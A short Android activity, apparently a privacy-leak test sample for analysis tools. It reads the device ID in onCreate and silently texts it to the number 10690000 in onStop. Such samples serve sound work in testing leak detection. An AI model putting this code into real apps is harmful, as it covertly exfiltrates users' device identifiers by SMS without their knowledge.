package cn.privlens.suite.activity_field_later;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private String id = "";
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
    }
    @Override
    protected void onStart() {
        super.onStart();
        setTitle("开始");
    }
    @Override
    protected void onStop() {
        super.onStop();
        SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null);
    }
}
